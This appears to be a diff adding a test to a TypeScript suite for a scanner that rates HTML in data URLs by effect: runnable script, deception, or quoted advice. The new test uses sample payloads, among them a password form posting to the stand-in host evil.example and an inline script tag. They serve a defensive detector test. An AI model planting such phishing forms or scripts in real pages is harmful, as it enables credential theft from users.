@@ -11,6 +11,7 @@ import type { Rule, Verdict } from '../../../src/rules/rule.ts';
 import { type Impact, severityOf, time, type Use } from '../../../src/rules/severity.ts';
 import type { RuleTexts } from '../../../src/rules/texts.ts';
 import { destinations, type Occurrence, type Severity } from '../../../src/vocabulary.ts';
+import { html, quoted, type Where } from './cases.ts';
 import { dataUrl } from './page.ts';
 import { declared, occurrence, subject } from './subject.ts';
 
@@ -283,4 +284,17 @@ test('no wording names a use that is none, a type that nobody declared, or a mis
       );
     }
   }
+});
+
+test('the effect: that of what runs inside, also in phishing; of what is only quoted, advice', async () => {
+  const effectsOf = async (written: string, where: Where) =>
+    new Set((await dataUrl(written, where)).findings.map(({ effect }) => effect));
+  const runs = '<script>run()</script>';
+  const inside = await effectsOf(html(`<iframe src='${html(runs)}'></iframe>`), 'iframe');
+  assert.ok(inside.has('can-run'));
+  const form = '<form action=https://evil.example/><input type=password></form>';
+  const phishing = await effectsOf(html(form + runs), 'iframe');
+  assert.ok(phishing.has('can-run') && phishing.has('deceives'));
+  const inScript = await effectsOf(html(runs), quoted);
+  assert.deepEqual([...inScript], ['advice']);
 });
